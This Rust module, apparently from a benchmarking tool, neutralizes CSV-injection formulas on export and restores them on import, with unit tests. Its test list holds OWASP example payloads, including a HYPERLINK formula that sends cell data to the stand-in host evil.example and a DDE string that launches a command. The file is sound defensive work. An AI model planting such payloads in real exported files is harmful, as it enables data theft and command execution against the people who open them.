//! CSV cells a spreadsheet will not run as a formula (CSV injection, OWASP): every text cell that
//! dify-bench exports goes through [`neutralize`], and every text cell the case importer reads
//! goes through [`restore`], so importing our own export gives the original text back.
//!
//! The rule: a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return — what Excel,
//! LibreOffice and Google Sheets may evaluate — gets a `'` in front. So that the importer can strip
//! exactly what was added, a cell that *already* begins with `'` followed by one of those
//! characters or by another `'` gets one too; `restore` removes one leading `'` from exactly the
//! cells `neutralize` could have produced. The pair is a bijection: `restore(neutralize(s)) == s`
//! for every `s`.
//!
//! The cost, for files written by hand: a cell `'=x` imports as `=x`, and `''x` as `'x`. A cell
//! `'hello` is kept as it is. Numbers dify-bench writes (scores, latencies, ids) are never
//! negative and are not passed through here.

use std::borrow::Cow;

/// What a spreadsheet may take as the start of a formula.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// `'` followed by a trigger or another `'`: the shape `neutralize` gives a dangerous cell.
fn looks_neutralized(cell: &str) -> bool {
    cell.strip_prefix('\'')
        .and_then(|rest| rest.chars().next())
        .is_some_and(|c| c == '\'' || is_trigger(c))
}

/// The cell as written to an exported CSV: with a `'` in front when a spreadsheet could run it
/// (or when `restore` would otherwise take a `'` of the text's own).
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(is_trigger) || looks_neutralized(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The text of an imported CSV cell: `neutralize` undone.
pub fn restore(cell: &str) -> &str {
    if looks_neutralized(cell) {
        &cell[1..]
    } else {
        cell
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn owasp_payloads_are_neutralized() {
        // OWASP's CSV injection examples, and each trigger character on its own.
        for payload in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "-2 degrees",
        ] {
            let safe = neutralize(payload);
            assert_eq!(safe, format!("'{payload}"), "{payload:?}");
            assert_eq!(restore(&safe), payload, "{payload:?}");
        }
    }

    #[test]
    fn harmless_cells_are_left_alone() {
        for cell in [
            "",
            "plain text",
            "1+1",
            "a=b",
            " =1+1",
            "'hello",
            "'",
            "MIPI D-PHY 基本參數",
            "每通道 = 2.5 Gbps",
            "\n=1",
        ] {
            assert!(matches!(neutralize(cell), Cow::Borrowed(_)), "{cell:?}");
            assert_eq!(restore(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn every_text_round_trips() {
        // Including texts that look like a neutralized cell already.
        for text in [
            "", "'", "''", "'''", "'=", "'=1+1", "''=1", "'-", "'@x", "'\t", "'a", "=", "==", "a",
            "-", "'hello", "''hello", "😀=",
        ] {
            let written = neutralize(text);
            assert_eq!(restore(&written), text, "{text:?} written as {written:?}");
            assert!(
                !written.starts_with(is_trigger),
                "{written:?} could be run by a spreadsheet"
            );
        }
        assert_eq!(neutralize("'=1+1"), "''=1+1");
        assert_eq!(neutralize("''x"), "'''x");
        // A hand-written cell whose apostrophe guards a formula imports as the formula's text.
        assert_eq!(restore("'=SUM(A1)"), "=SUM(A1)");
    }
}
